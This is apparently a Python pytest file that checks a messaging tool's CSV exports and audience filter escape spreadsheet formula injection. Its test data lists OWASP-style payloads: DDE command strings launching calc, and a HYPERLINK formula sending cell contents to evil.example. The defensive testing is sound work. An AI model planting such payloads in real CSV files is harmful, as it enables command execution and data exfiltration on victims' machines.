"""Every CSV heed writes is inert in a spreadsheet (issue 16, row 4: OWASP CSV injection).

Before: reasons and addresses beginning with `=`, `+`, `-`, `@`, tab or CR went out raw in
the suppressions export (API and web) and in the audience filter's output.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from heed import Engine
from heed.bulk.cells import FORMULA_STARTS, any_formula, inert_cell, may_hold_formulas
from helpers.actors import ADMIN

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]
ADDRESS = "=cmd|'/Ccalc'!A0@example.com"


def formula_cells(text: str) -> list[str]:
    """The cells a spreadsheet would run as formulas (plain numbers are data)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell and cell[0] in FORMULA_STARTS and inert_cell(cell) != cell
    ]


@pytest.mark.parametrize(
    ("cell", "inert"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-cmd", "'-cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("+14155550100", "+14155550100"),  # a phone number stays as it is
        ("+1 (415) 555-0100", "+1 (415) 555-0100"),
        ("-3", "-3"),
        ("+1+cmd|", "'+1+cmd|"),
        ("ann@example.com", "ann@example.com"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_inert_cell(cell: object, inert: object) -> None:
    assert inert_cell(cell) == inert


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.text(alphabet="=+-@\t\r\n,0123456789 ().aZ\x00٣", max_size=6), max_size=6))
def test_any_formula_answers_as_inert_cell(cells: list[str]) -> None:
    """Exactly, unless a cell holds the NUL that joins them: then it errs on yes."""
    changed = any(inert_cell(cell) != cell for cell in cells)
    if any("\x00" in cell for cell in cells):
        assert any_formula(cells)
    else:
        assert any_formula(cells) == changed
    assert not any_formula(["+14155550100", "-3", "ann@example.com", "STOP", ""])


def test_the_suppressions_export_is_inert(engine: Engine, acme: str) -> None:
    for n, reason in enumerate(PAYLOADS):
        engine.opt_out(acme, "sms", f"+1415555{n:04d}", actor=ADMIN, reason=reason)
    engine.opt_out(acme, "email", ADDRESS, actor=ADMIN, reason="opted out on the public page")
    engine.opt_out(acme, "email", "ann@example.com", actor=ADMIN, reason="=x", evidence={"=": "="})

    text = b"".join(engine.export_suppressions(acme, format="csv")).decode()

    assert formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["reason"] for r in rows if r["channel"] == "sms") == sorted(
        "'" + p for p in PAYLOADS
    )
    assert ["'" + ADDRESS.lower()] == [r["address"] for r in rows if r["address"].startswith("'")]
    assert {r["address"] for r in rows if r["channel"] == "sms"} == {
        f"+1415555{n:04d}" for n in range(len(PAYLOADS))
    }


def test_the_audience_filter_writes_inert_csv(engine: Engine, acme: str) -> None:
    engine.opt_out(acme, "sms", "+14155550199", actor=ADMIN, reason="STOP")
    lines = ["phone,name"] + [
        f'+1415555{n:04d},"{p.replace(chr(34), chr(34) * 2)}"' for n, p in enumerate(PAYLOADS)
    ]
    lines.append('+14155550199,"=evil()"')
    allowed, excluded = io.BytesIO(), io.BytesIO()

    engine.filter_audience(
        acme,
        io.BytesIO("\n".join(lines).encode()),
        allowed,
        channel="sms",
        excluded_out=excluded,
    )

    for out in (allowed, excluded):
        assert formula_cells(out.getvalue().decode()) == []
    names = [row[1] for row in csv.reader(io.StringIO(allowed.getvalue().decode(), newline=""))]
    assert names[1:] == ["'" + p for p in PAYLOADS]


def test_unquoted_formulas_take_the_row_by_row_path_and_come_out_inert(
    engine: Engine, acme: str
) -> None:
    """The columnar filter copies rows byte for byte: a file with a formula field goes row by
    row instead, so its output is inert too; plain phone numbers keep the fast path."""
    assert not may_hold_formulas(b"phone,name\n+14155550100,Ann\n-1 (415) 555-0101,Bob\n")
    assert not may_hold_formulas(b"phone;name\r\n+14155550100;ann@example.com\r\n")
    for evil in (b"=1+1", b"@SUM(1)", b"+1+cmd|x", b"-x", b"\t=1"):
        assert may_hold_formulas(b"phone,name\n+14155550100," + evil + b"\n"), evil
        assert may_hold_formulas(b"name,phone\n" + evil + b",+14155550100"), evil
    text = "phone,name\n+14155550100,=cmd|' /C calc'!A0\n+14155550101,@SUM(1)\n"
    allowed = io.BytesIO()
    engine.filter_audience(acme, io.BytesIO(text.encode()), allowed, channel="sms")
    assert formula_cells(allowed.getvalue().decode()) == []
    assert allowed.getvalue().decode().splitlines()[1:] == [
        "+14155550100,'=cmd|' /C calc'!A0",
        "+14155550101,'@SUM(1)",
    ]
